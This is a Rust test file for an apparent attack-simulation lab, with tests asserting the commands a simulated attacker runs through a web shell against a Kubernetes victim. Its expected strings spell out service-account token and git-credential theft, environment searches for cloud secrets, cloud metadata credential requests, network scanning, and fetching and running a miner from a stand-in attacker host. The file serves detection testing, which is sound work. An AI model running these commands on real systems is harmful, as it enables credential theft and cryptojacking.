//! The kernel's view of a run.
//!
//! It covers the programs in the victim, their arguments, parents and order, and the files they accessed. One test per
//! scenario covers everything that ran.

use crate::range::{Finally, Space, alone, shared, state};
use crate::recorder::{Delivery, Program, Programs, deliveries, record, requests};

/// Asserts that the steps ran in this order, each in its own web shell request, with exactly these programs and files.
///
/// The order within a step matters as well. Every program is a child of a bash, below the `sh -c` of the web shell,
/// below PHP's worker.
#[track_caller]
fn assert_steps(programs: &Programs, expected: &[(&str, &[&str])]) {
    let victim = &programs["victim"];
    let mut seen = vec![];
    for Delivery { step, shell, bash } in deliveries(programs) {
        let below: Vec<&Program> = victim.iter().filter(|p| p.above.contains(&shell)).collect();
        let work: Vec<&&Program> = below.iter().filter(|p| p.above.contains(&bash)).collect();
        for program in &work {
            assert_eq!(program.above[0], bash, "{step}: {program:#?}");
        }
        let ran = work.iter().map(|program| (program.at, program.command()));
        let deeds = below.iter().flat_map(|program| program.deeds.clone());
        let mut all: Vec<(u64, String)> = ran.chain(deeds).collect();
        all.sort();
        seen.push((
            step,
            all.into_iter().map(|(_, printed)| printed).collect::<Vec<_>>(),
        ));
    }
    let expected: Vec<(String, Vec<String>)> = expected
        .iter()
        .map(|(step, all)| {
            (
                (*step).to_owned(),
                all.iter().map(|&printed| printed.to_owned()).collect(),
            )
        })
        .collect();
    assert_eq!(seen, expected, "seen, and expected: {seen:#?}");
}

/// Asserts the order of the attacker's own programs, each below its first bash.
#[track_caller]
fn assert_attacker(programs: &Programs, expected: &[&str]) {
    let attacker = &programs["attacker"];
    let below: Vec<String> = attacker
        .iter()
        .filter(|program| program.line(attacker) == ["bash"])
        .map(Program::command)
        .filter(|command| expected.contains(&command.as_str()))
        .collect();
    assert_eq!(below, expected, "{attacker:#?}");
}

const TOKEN: &str = "cat /var/run/secrets/kubernetes.io/serviceaccount/token";

#[test]
#[ignore = "needs the range: make range"]
fn recon() {
    let _shared = shared();
    let space = Space::named("tree-recon");
    let review = concat!(
        "curl -s -k -A kubectl -H 'Authorization: Bearer <token>' -H 'Content-Type: application/json' -X POST -d ",
        r#"'{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","#,
        r#""spec":{"resourceAttributes":{"namespace":"default","resource":"pods","verb":"get"}}}' "#,
        "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
    );
    let expected: [(&str, &[&str]); _] = [
        ("recon.read-token", &[TOKEN]),
        ("recon.access-review", &[review]),
        (
            "recon.scan-services",
            &["nmap -Pn --open kubernetes.default/24 -p 443"],
        ),
    ];
    assert_steps(&record(&space, &["recon"]), &expected);
}

/// The script tries one cloud after the other until one responds, so each run shows more requests.
#[test]
#[ignore = "needs the range: make range"]
fn lateral_mov() {
    let _alone = alone();
    let flavour = state().join("flavour");
    let _removed = Finally(|| {
        let _ = std::fs::remove_file(&flavour);
    });
    let gcp = "curl -s -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token";
    let session = "curl -sf -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600'";
    let role = |role| {
        format!(
            "curl -sf -H 'X-aws-ec2-metadata-token: stand-in-session-token' http://169.254.169.254/latest/meta-data/iam/security-credentials/{role}"
        )
    };
    let compute = |what| {
        format!(
            "curl -s -H Metadata:true --noproxy '*' 'http://169.254.169.254/metadata/instance/compute/{what}?api-version=2017-08-01&format=text'"
        )
    };
    let identity = |which| {
        format!(
            "curl -sf -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com{which}'"
        )
    };
    let agent_pool = concat!(
        "&msi_res_id=/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/MC_range_range_westeurope",
        "/providers/Microsoft.ManagedIdentity/userAssignedIdentities/range-agentpool"
    );
    let (roles, credentials) = (role(""), role("range-node-role"));
    let (subscription, group) = (compute("subscriptionId"), compute("resourceGroupName"));
    let (location, node, pool) = (compute("location"), identity(""), identity(agent_pool));
    let clouds: [(&str, &[&str]); _] = [
        ("gcp", &[gcp]),
        ("aws", &[gcp, session, &roles, &credentials]),
        ("azure", &[gcp, session, &subscription, &group, &location, &node]),
        (
            "azure-multiple",
            &[gcp, session, &subscription, &group, &location, &node, &pool],
        ),
        ("none", &[gcp, session, &subscription]),
    ];
    for (cloud, expected) in clouds {
        std::fs::write(&flavour, cloud).unwrap();
        let space = Space::named(&format!("tree-{cloud}"));
        let programs = record(&space, &["lateral-mov"]);
        assert_steps(&programs, &[("lateral-mov.metadata-token", expected)]);
    }
}

#[test]
#[ignore = "needs the range: make range"]
fn secrets() {
    let _shared = shared();
    let space = Space::named("tree-secrets");
    let expected: [(&str, &[&str]); _] = [
        (
            "secrets.find-git-credentials",
            &["find / -path '*/.git-credentials'"],
        ),
        (
            "secrets.read-git-credentials",
            &["cat /home/user/.git-credentials"],
        ),
        ("secrets.read-token", &[TOKEN]),
        (
            "secrets.search-environment",
            &[
                "env",
                "grep -q '^GOOGLE_DEFAULT_CLIENT_SECRET='",
                "env",
                "grep -q '^AWS_SECRET_ACCESS_KEY='",
                "env",
                "grep -q '^AZURE_CREDENTIAL_FILE='",
            ],
        ),
    ];
    assert_steps(&record(&space, &["secrets"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn crypto() {
    let _shared = shared();
    let space = Space::named("tree-crypto");
    let programs = record(&space, &["crypto"]);
    let expected: [(&str, &[&str]); _] = [
        ("crypto.load-msr", &["/sbin/modprobe msr allow_writes=on"]),
        (
            "crypto.touch-ld-preload",
            &["touch /etc/ld.so.preload", "(touch writes /etc/ld.so.preload)"],
        ),
        (
            "crypto.download-miner",
            &[
                "curl -sO http://mdc-simulation-attacker/xmrig",
                "(curl writes xmrig)",
                "wc -c",
            ],
        ),
        ("crypto.run-miner", &["chmod +x xmrig", "./xmrig"]),
    ];
    assert_steps(&programs, &expected);
    assert_attacker(
        &programs,
        &[
            "mkdir -p /tmp/www",
            "cp /bin/true /tmp/www/xmrig",
            "python3 -m http.server 80",
        ],
    );
}

#[test]
#[ignore = "needs the range: make range"]
fn ti_domain() {
    let _shared = shared();
    let space = Space::named("tree-ti-domain");
    let contact =
        "curl -s -m 10 -X POST 'http://mdc-eicar.alerts.security.azure.com?SendingData' -o /dev/null";
    let expected: [(&str, &[&str]); _] = [("ti-domain.contact-domain", &[contact])];
    assert_steps(&record(&space, &["ti-domain"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn anti_malware() {
    let _shared = shared();
    let space = Space::named("tree-anti-malware");
    let expected: [(&str, &[&str]); _] = [
        (
            "anti-malware.write-file",
            &["(bash writes ./infected_file)", "wc -c"],
        ),
        // The test string is not an executable: the kernel refuses it, and bash runs it as a script.
        (
            "anti-malware.run-file",
            &["chmod a+x ./infected_file", "(bash cannot start ./infected_file)"],
        ),
    ];
    assert_steps(&record(&space, &["anti-malware"]), &expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn webshell() {
    let _shared = shared();
    let space = Space::named("tree-webshell");
    let programs = record(&space, &["webshell"]);
    let victim = &programs["victim"];
    let requests = requests(&programs);
    assert_eq!(requests.len(), 1, "{victim:#?}");
    let shell = requests[0].1;
    assert_eq!(victim[shell].command(), "sh -c whoami");
    // The shell may either execute or fork whoami.
    let whoami: Vec<&Program> = victim.iter().filter(|p| p.argv == ["whoami"]).collect();
    assert_eq!(whoami.len(), 1, "{victim:#?}");
    let line = whoami[0].line(victim);
    assert!(
        line == ["sh", "php-fpm", "sh"] || line == ["php-fpm", "sh"],
        "{line:?}"
    );
    assert!(victim.iter().all(|program| {
        program
            .deeds
            .iter()
            .all(|(_, printed)| !printed.contains("writes"))
    }));
    assert_eq!(victim.len(), 5, "more ran: {victim:#?}");
}

#[test]
#[ignore = "needs the range: make range"]
fn scenarios_run_in_the_order_given() {
    let _shared = shared();
    let space = Space::named("tree-order");
    let programs = record(&space, &["anti-malware", "ti-domain", "crypto"]);
    let steps: Vec<String> = requests(&programs).into_iter().map(|(step, _)| step).collect();
    let expected = [
        "anti-malware.write-file",
        "anti-malware.run-file",
        "ti-domain.contact-domain",
        "crypto.load-msr",
        "crypto.touch-ld-preload",
        "crypto.download-miner",
        "crypto.run-miner",
    ];
    assert_eq!(steps, expected);
}

#[test]
#[ignore = "needs the range: make range"]
fn baseline() {
    let _shared = shared();
    let space = Space::named("tree-baseline");
    let programs = record(&space, &["crypto", "--baseline"]);
    let victim = &programs["victim"];
    // The start command, PHP and the web server: a victim without an attack.
    let names: Vec<&str> = victim.iter().map(|program| program.name.as_str()).collect();
    assert_eq!(names, ["sh", "php-fpm", "nginx"], "{victim:#?}");
}
